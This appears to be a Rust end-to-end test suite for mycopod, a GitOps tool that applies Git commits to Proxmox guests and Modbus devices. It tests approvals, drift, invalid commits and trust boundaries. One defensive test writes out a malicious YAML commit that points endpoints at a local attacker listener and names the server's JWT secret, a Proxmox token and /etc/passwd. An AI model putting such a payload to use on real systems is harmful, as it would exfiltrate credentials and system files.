//! The end-to-end suite: the built `mycopod demo` binary, driven as a user would, from a Git
//! commit to a Proxmox guest and a Modbus register. Runs on SQLite, and on PostgreSQL in the
//! ignored pass that CI runs with `MYCOPOD_TEST_DATABASE_URL` set.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use anyhow::{Context, Result};
use mycopod_adapters::modbus::Value as Reg;
use mycopod_tests::{Demo, RunRow, drop_postgres, fresh_postgres};
use serde_json::{Value, json};

fn register(values: &[(String, Reg)], name: &str) -> f64 {
    values
        .iter()
        .find(|(n, _)| n == name)
        .and_then(|(_, v)| v.as_f64())
        .unwrap_or_else(|| panic!("register {name} not read: {values:?}"))
}

fn action_keys(run: &Value) -> Vec<String> {
    run["actions"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|a| a["key"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// The whole job: the first run waits, the operator approves it with its plan hash, the
/// guests and setpoints land, a second reconcile is a no-op, a commit plans exactly its two
/// field changes after a webhook, and a change behind mycopod's back shows as drift.
async fn the_whole_job(database_url: Option<&str>) -> Result<()> {
    let demo = Demo::start(database_url).await?;
    let operator = demo.login("operator").await?;
    let anonymous = demo
        .post_raw("/api/v1/runs/1/approve", None, &json!({"plan_hash": "x"}))
        .await?;
    assert_eq!(anonymous.0.as_u16(), 401, "approving needs a sign-in");

    // 1. The first run waits for approval.
    let first = demo
        .wait_for("the first run", || async {
            Ok(demo.runs(&operator).await?.into_iter().next())
        })
        .await?;
    let run = demo
        .wait_for_status(&operator, first.id, &["awaiting_approval"])
        .await?;
    let keys = action_keys(&run);
    for want in [
        "Guest/pihole:create",
        "Guest/pihole:start",
        "Guest/web:create",
        "ModbusDevice/fm-101:write",
    ] {
        assert!(keys.iter().any(|k| k == want), "{want} in {keys:?}");
    }
    assert!(
        demo.pve("/nodes/pve1/lxc/200/status/current")
            .await
            .is_err(),
        "nothing is created before approval"
    );

    // A stale hash is refused; the reviewed one is accepted.
    let (stale, _) = demo
        .post_raw(
            &format!("/api/v1/runs/{}/approve", first.id),
            Some(&operator),
            &json!({"plan_hash": "0".repeat(64)}),
        )
        .await?;
    assert_eq!(stale.as_u16(), 409, "a stale plan hash is refused");
    let hash = run["run"]["plan_hash"].as_str().context("plan hash")?;
    demo.post_json(
        &format!("/api/v1/runs/{}/approve", first.id),
        Some(&operator),
        &json!({"plan_hash": hash, "comment": "looks right"}),
    )
    .await?;
    let done = demo
        .wait_for_status(
            &operator,
            first.id,
            &["succeeded", "failed", "partially_failed"],
        )
        .await?;
    assert_eq!(
        done["run"]["status"], "succeeded",
        "the approved run applies: {}",
        done["run"]["error"]
    );

    // 2. The guests exist with their declared settings and power state.
    let pihole = demo.pve("/nodes/pve1/lxc/200/config").await?;
    assert_eq!(pihole["memory"], json!(512));
    assert_eq!(pihole["hostname"], "pihole");
    let status = demo.pve("/nodes/pve1/lxc/200/status/current").await?;
    assert_eq!(status["status"], "running");
    let runner = demo.pve("/nodes/pve1/qemu/130/status/current").await?;
    assert_eq!(
        runner["status"], "stopped",
        "gitlab-runner is declared stopped"
    );
    let db = demo.pve("/nodes/pve2/qemu/121/config").await?;
    assert_eq!(
        db["memory"],
        json!(8192),
        "cloned across nodes from the template"
    );

    // The setpoints hold the declared values.
    let fm101 = demo.read_device("fm-101").await?;
    assert!((register(&fm101, "low_flow_cutoff") - 0.5).abs() < 1e-6);
    assert!((register(&fm101, "damping") - 2.0).abs() < 1e-6);
    let fm102 = demo.read_device("fm-102").await?;
    assert!((register(&fm102, "low_flow_cutoff") - 1.5).abs() < 1e-6);

    // 3. A second reconcile is a no-op.
    let before = demo.runs(&operator).await?;
    let status = demo.reconcile(&operator).await?;
    assert_eq!(status["last_outcome"], "in sync", "{status}");
    let after = demo.runs(&operator).await?;
    let added: Vec<&RunRow> = after
        .iter()
        .filter(|r| before.iter().all(|b| b.id != r.id))
        .collect();
    assert_eq!(added.len(), 1, "the manual trigger is recorded: {after:?}");
    assert_eq!(
        (added[0].status.as_str(), added[0].trigger.as_str()),
        ("no_changes", "manual"),
        "a no-op ends its run with no changes: {after:?}"
    );
    assert!(
        before.iter().all(|b| after.contains(b)),
        "no other run changed: {after:?}"
    );
    let before = after;

    // 4. A commit changing a guest's memory and a setpoint, announced by the webhook.
    let commit_a = demo.commit_edit(
        "homelab/guests/containers.yaml",
        "memory: 1GiB",
        "memory: 3GiB",
        "media: more memory",
    )?;
    let commit = demo.commit_edit(
        "plant/devices.yaml",
        "damping: 2.0",
        "damping: 3.5",
        "fm-101: slower damping",
    )?;
    assert_ne!(commit_a, commit);
    assert!(
        demo.push_webhook(&commit).await?.is_success(),
        "the push is accepted"
    );
    let next = demo.wait_for_new_run(&operator, &before).await?;
    assert_eq!(next.commit, commit);
    assert_eq!(next.trigger, "webhook");
    let run = demo
        .wait_for_status(&operator, next.id, &["awaiting_approval"])
        .await?;
    let changes: Vec<(String, String)> = run["actions"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|a| {
            let key = a["key"].as_str().unwrap_or_default().to_owned();
            a["diff"].as_array().into_iter().flatten().map(move |c| {
                (
                    key.clone(),
                    c["field"].as_str().unwrap_or_default().to_owned(),
                )
            })
        })
        .collect();
    assert_eq!(
        changes,
        vec![
            ("Guest/media:update".to_owned(), "memory".to_owned()),
            (
                "ModbusDevice/fm-101:write".to_owned(),
                "setpoints.damping".to_owned()
            ),
        ],
        "exactly the two field changes of the commit"
    );

    // 5. A change behind mycopod's back shows as drift. First converge the new commit.
    let hash = run["run"]["plan_hash"].as_str().context("plan hash")?;
    demo.post_json(
        &format!("/api/v1/runs/{}/approve", next.id),
        Some(&operator),
        &json!({"plan_hash": hash}),
    )
    .await?;
    demo.wait_for_status(&operator, next.id, &["succeeded"])
        .await?;
    demo.pve_put("/nodes/pve1/lxc/200/config", &[("memory", "1024")])
        .await?;
    let before = demo.runs(&operator).await?;
    demo.reconcile(&operator).await?;
    let drift = demo.wait_for_new_run(&operator, &before).await?;
    assert_eq!(
        drift.status, "awaiting_approval",
        "drift waits without selfHeal"
    );
    let resources = demo.get("/api/v1/resources", &operator).await?;
    let pihole = resources["resources"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|r| r["kind"] == "Guest" && r["name"] == "pihole")
        .context("pihole in resources")?;
    assert_eq!(pihole["sync"], "out_of_sync", "{pihole}");
    let details = pihole["details"].to_string();
    assert!(details.contains("memory: 1024 -> 512"), "{details}");
    let fm103 = resources["resources"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|r| r["name"] == "fm-103")
        .context("fm-103 in resources")?;
    assert_eq!(
        fm103["sync"], "drift",
        "mode: detect is reported, never written"
    );

    // Ctrl-C stops it cleanly.
    let exit = demo.stop().await?;
    assert!(exit.success(), "the demo exits cleanly on Ctrl-C: {exit:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_demo_should_do_the_whole_job_on_sqlite() -> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), the_whole_job(None)).await?
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs MYCOPOD_TEST_DATABASE_URL"]
async fn the_demo_should_do_the_whole_job_on_postgres() -> Result<()> {
    let url = fresh_postgres().await?;
    let outcome = tokio::time::timeout(Duration::from_secs(300), the_whole_job(Some(&url))).await;
    drop_postgres(&url).await;
    outcome?
}

#[tokio::test(flavor = "multi_thread")]
async fn an_invalid_commit_should_produce_an_invalid_run_and_change_nothing() -> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), async {
        let demo = Demo::start(None).await?;
        let operator = demo.login("operator").await?;
        let first = demo
            .wait_for("the first run", || async {
                Ok(demo.runs(&operator).await?.into_iter().next())
            })
            .await?;
        let guests_before = demo.pve("/cluster/resources?type=vm").await?;
        let commit = demo.commit_edit(
            "homelab/guests/containers.yaml",
            "memory: 512MiB",
            "memory: half a gig",
            "broken",
        )?;
        demo.reconcile(&operator).await?;
        let invalid = demo
            .wait_for_new_run(&operator, std::slice::from_ref(&first))
            .await?;
        assert_eq!(invalid.status, "invalid");
        assert_eq!(invalid.commit, commit);
        let run = demo
            .get(&format!("/api/v1/runs/{}", invalid.id), &operator)
            .await?;
        let diagnostics = run["run"]["plan"]["diagnostics"]
            .as_array()
            .context("diagnostics")?;
        assert!(
            diagnostics
                .iter()
                .any(|d| d["file"] == "homelab/guests/containers.yaml"
                    && d["path"] == "spec.memory"
                    && d["line"].as_u64().is_some_and(|l| l > 0)),
            "{diagnostics:?}"
        );
        let waiting = demo
            .get(&format!("/api/v1/runs/{}", first.id), &operator)
            .await?;
        assert_eq!(
            waiting["run"]["status"], "superseded",
            "the newer commit supersedes it"
        );
        assert_eq!(
            demo.pve("/cluster/resources?type=vm").await?,
            guests_before,
            "nothing changed on the cluster"
        );
        Ok(())
    })
    .await?
}

#[tokio::test(flavor = "multi_thread")]
async fn a_restarted_demo_should_continue_where_it_left_off() -> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), async {
        let temp = tempfile::tempdir()?;
        let dir = temp.path().join("data");
        let demo = Demo::start_in(&dir, None).await?;
        let operator = demo.login("operator").await?;
        let first = demo
            .wait_for("the first run", || async {
                Ok(demo.runs(&operator).await?.into_iter().next())
            })
            .await?;
        let password = demo.password("operator");
        assert!(demo.stop().await?.success());

        let again = Demo::start_in(&dir, None).await?;
        assert_eq!(again.password("operator"), password, "the same users");
        let operator = again.login("operator").await?;
        let runs = again.runs(&operator).await?;
        assert_eq!(runs.first().map(|r| r.id), Some(first.id), "the same runs");
        assert_eq!(
            runs.iter()
                .filter(|r| r.status == "awaiting_approval")
                .count(),
            1,
            "the waiting run still waits, and no duplicate was planned: {runs:?}"
        );
        assert!(again.stop().await?.success());
        Ok(())
    })
    .await?
}

// ---------------------------------------------------------------------------------------------
// Trust: whoever can commit decides what is desired, never what is allowed or what the server
// reveals (DESIGN.md, "Trust"). Each test plays the committer as attacker, on the binary.

/// Approves the demo's first run as `token`'s user and waits until it applied, so that its
/// policies are the ones in force.
async fn converge_first_run(demo: &Demo, token: &str) -> Result<()> {
    let first = demo
        .wait_for("the first run", || async {
            Ok(demo.runs(token).await?.into_iter().next())
        })
        .await?;
    let run = demo
        .wait_for_status(token, first.id, &["awaiting_approval"])
        .await?;
    let hash = run["run"]["plan_hash"].as_str().context("plan hash")?;
    demo.post_json(
        &format!("/api/v1/runs/{}/approve", first.id),
        Some(token),
        &json!({"plan_hash": hash}),
    )
    .await?;
    let done = demo
        .wait_for_status(
            token,
            first.id,
            &["succeeded", "failed", "partially_failed"],
        )
        .await?;
    assert_eq!(
        done["run"]["status"], "succeeded",
        "{}",
        done["run"]["error"]
    );
    Ok(())
}

/// Writes `file` into the demo repository and commits it.
fn commit_file(demo: &Demo, file: &str, text: &str, message: &str) -> Result<String> {
    std::fs::write(demo.repo().join(file), text)?;
    mycopod_tests::git(&demo.repo(), &["add", file])?;
    mycopod_tests::git(&demo.repo(), &["commit", "--quiet", "-m", message])?;
    Ok(mycopod_tests::git(&demo.repo(), &["rev-parse", "HEAD"])?
        .trim()
        .to_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_commit_should_never_make_the_server_send_a_secret_it_did_not_list_for_that_host()
-> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), async {
        let demo = Demo::start(None).await?;
        let operator = demo.login("operator").await?;
        // The attacker's server counts every connection made to it.
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let attacker = listener.local_addr()?;
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counted = hits.clone();
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(socket);
            }
        });
        demo.wait_for("the first run", || async {
            Ok(demo.runs(&operator).await?.into_iter().next())
        })
        .await?;
        let before = demo.runs(&operator).await?;
        // The server's JWT key, the listed Proxmox token toward another host, and any file.
        let attack = format!(
            "apiVersion: mycopod/v1\nkind: ProxmoxCluster\nmetadata: {{name: thief}}\nspec:\n  \
             endpoint: http://{attacker}\n  auth: {{tokenId: \"x@pve!y\", secretEnv: MYCOPOD_JWT_SECRET}}\n  \
             defaultNode: pve1\n---\napiVersion: mycopod/v1\nkind: ProxmoxCluster\nmetadata: {{name: thief2}}\n\
             spec:\n  endpoint: http://{attacker}\n  auth: {{tokenId: \"mycopod@pve!gitops\", secretEnv: PVE_TOKEN}}\n  \
             defaultNode: pve1\n---\napiVersion: mycopod/v1\nkind: NotificationChannel\nmetadata: {{name: thief3}}\n\
             spec:\n  webhook: {{url: \"http://{attacker}/x\", secretFile: /etc/passwd}}\n"
        );
        let commit = commit_file(&demo, "attack.yaml", &attack, "add a cluster")?;
        demo.reconcile(&operator).await?;
        let run = demo.wait_for_new_run(&operator, &before).await?;
        assert_eq!(run.commit, commit);
        assert_eq!(run.status, "invalid", "a refused secret makes the run invalid");
        let detail = demo
            .get(&format!("/api/v1/runs/{}", run.id), &operator)
            .await?;
        let found: Vec<(String, String, String)> = detail["run"]["plan"]["diagnostics"]
            .as_array()
            .context("diagnostics")?
            .iter()
            .map(|d| {
                (
                    d["path"].as_str().unwrap_or_default().to_owned(),
                    d["code"].as_str().unwrap_or_default().to_owned(),
                    d["message"].as_str().unwrap_or_default().to_owned(),
                )
            })
            .collect();
        let has = |path: &str, code: &str, words: &str| {
            found
                .iter()
                .any(|(p, c, m)| p == path && c == code && m.contains(words))
        };
        assert!(
            has("spec.auth.secretEnv", "secret-not-allowed", "server's own secrets"),
            "{found:?}"
        );
        assert!(
            has("spec.auth.secretEnv", "secret-destination", "may be sent only to"),
            "{found:?}"
        );
        assert!(
            has("spec.webhook.secretFile", "secret-not-allowed", "not listed"),
            "{found:?}"
        );
        assert!(
            detail["run"]["error"]
                .as_str()
                .is_some_and(|e| e.contains("attack.yaml")),
            "the run's error names the file: {}",
            detail["run"]["error"]
        );
        // Another reconcile (and a poll's worth of time) later, nothing reached the attacker.
        demo.reconcile(&operator).await?;
        assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was sent");
        Ok(())
    })
    .await?
}

#[tokio::test(flavor = "multi_thread")]
async fn a_commit_should_not_relax_the_policy_that_guards_its_own_change() -> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), async {
        let demo = Demo::start(None).await?;
        let operator = demo.login("operator").await?;
        converge_first_run(&demo, &operator).await?;
        let before = demo.runs(&operator).await?;
        // One push: the setpoint policy asks for nothing any more, and a setpoint changes.
        demo.commit_edit(
            "plant/policies.yaml",
            "approvals: 1",
            "approvals: 0",
            "policy: no approvals",
        )?;
        demo.commit_edit(
            "plant/devices.yaml",
            "damping: 2.0",
            "damping: 3.5",
            "fm-101: slower damping",
        )?;
        demo.reconcile(&operator).await?;
        let run = demo.wait_for_new_run(&operator, &before).await?;
        let detail = demo
            .wait_for_status(&operator, run.id, &["awaiting_approval"])
            .await?;
        let keys = action_keys(&detail);
        assert!(
            keys.iter()
                .any(|k| k == "HandshakePolicy/setpoint-writes:upsert"),
            "{keys:?}"
        );
        assert!(
            keys.iter().any(|k| k == "ModbusDevice/fm-101:write"),
            "{keys:?}"
        );
        assert!(
            detail["run"]["required_approvals"].as_i64() >= Some(1),
            "the trusted policy still asks for an approval: {}",
            detail["run"]
        );
        let fm101 = demo.read_device("fm-101").await?;
        assert!(
            (register(&fm101, "damping") - 2.0).abs() < 1e-6,
            "the setpoint is not written without approval"
        );
        Ok(())
    })
    .await?
}

#[tokio::test(flavor = "multi_thread")]
async fn an_approved_run_should_wait_outside_its_policy_window() -> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), async {
        let demo = Demo::start(None).await?;
        let operator = demo.login("operator").await?;
        converge_first_run(&demo, &operator).await?;
        let before = demo.runs(&operator).await?;
        // A window twelve hours away: closed now, whatever the time of day.
        let now_secs = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)?
            .as_secs();
        let hour = (now_secs / 3600 + 12) % 24;
        demo.commit_edit(
            "plant/policies.yaml",
            "  expiresAfter: 7d\n",
            &format!(
                "  expiresAfter: 7d\n  windows:\n    - {{start: \"{hour:02}:00\", end: \"{hour:02}:30\", timezone: UTC}}\n"
            ),
            "policy: writes only in the maintenance window",
        )?;
        demo.commit_edit(
            "plant/devices.yaml",
            "damping: 2.0",
            "damping: 3.5",
            "fm-101: slower damping",
        )?;
        // The admin asks for the reconcile, so the run is theirs and the operator may
        // approve it.
        let admin = demo.login("admin").await?;
        demo.reconcile(&admin).await?;
        let run = demo.wait_for_new_run(&operator, &before).await?;
        let detail = demo
            .wait_for_status(&operator, run.id, &["awaiting_approval"])
            .await?;
        let hash = detail["run"]["plan_hash"].as_str().context("plan hash")?;
        demo.post_json(
            &format!("/api/v1/runs/{}/approve", run.id),
            Some(&operator),
            &json!({"plan_hash": hash}),
        )
        .await?;
        let status = demo.reconcile(&operator).await?;
        assert!(
            status["last_outcome"]
                .as_str()
                .is_some_and(|o| o.contains("waits for window opening at")),
            "{status}"
        );
        let detail = demo
            .get(&format!("/api/v1/runs/{}", run.id), &operator)
            .await?;
        assert_eq!(detail["run"]["status"], "approved", "approved, not applied");
        assert!(
            detail["window"]["message"]
                .as_str()
                .is_some_and(|m| m.contains(&format!("T{hour:02}:00:00"))),
            "the API says when the window opens: {}",
            detail["window"]
        );
        let fm101 = demo.read_device("fm-101").await?;
        assert!(
            (register(&fm101, "damping") - 2.0).abs() < 1e-6,
            "nothing is written outside the window"
        );
        Ok(())
    })
    .await?
}

#[tokio::test(flavor = "multi_thread")]
async fn the_author_of_a_commit_should_not_approve_the_run_that_covers_it() -> Result<()> {
    tokio::time::timeout(Duration::from_secs(300), async {
        let demo = Demo::start(None).await?;
        let admin = demo.login("admin").await?;
        let operator = demo.login("operator").await?;
        // The operator is the one who committed the demo's declarations.
        demo.patch_json(
            "/api/v1/users/operator",
            &admin,
            &json!({"git_emails": ["Demo@mycopod.invalid"]}),
        )
        .await?;
        let first = demo
            .wait_for("the first run", || async {
                Ok(demo.runs(&operator).await?.into_iter().next())
            })
            .await?;
        let run = demo
            .wait_for_status(&operator, first.id, &["awaiting_approval"])
            .await?;
        assert!(
            run["run"]["plan"]["commits"].as_array().is_some_and(|c| c
                .iter()
                .any(|c| c["author_email"] == "demo@mycopod.invalid")),
            "the run records the commits it covers: {}",
            run["run"]["plan"]["commits"]
        );
        let hash = run["run"]["plan_hash"].as_str().context("plan hash")?;
        let (status, body) = demo
            .post_raw(
                &format!("/api/v1/runs/{}/approve", first.id),
                Some(&operator),
                &json!({"plan_hash": hash}),
            )
            .await?;
        assert_eq!(status.as_u16(), 403, "{body}");
        assert_eq!(body["error"]["code"], "self_approval_forbidden", "{body}");
        assert!(
            body["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains("demo@mycopod.invalid")),
            "{body}"
        );
        // Someone else may, and approving does not make them the run's requester.
        demo.post_json(
            &format!("/api/v1/runs/{}/approve", first.id),
            Some(&admin),
            &json!({"plan_hash": hash}),
        )
        .await?;
        let done = demo
            .wait_for_status(
                &admin,
                first.id,
                &["succeeded", "failed", "partially_failed"],
            )
            .await?;
        assert_eq!(done["run"]["requested_by"], serde_json::Value::Null);
        Ok(())
    })
    .await?
}
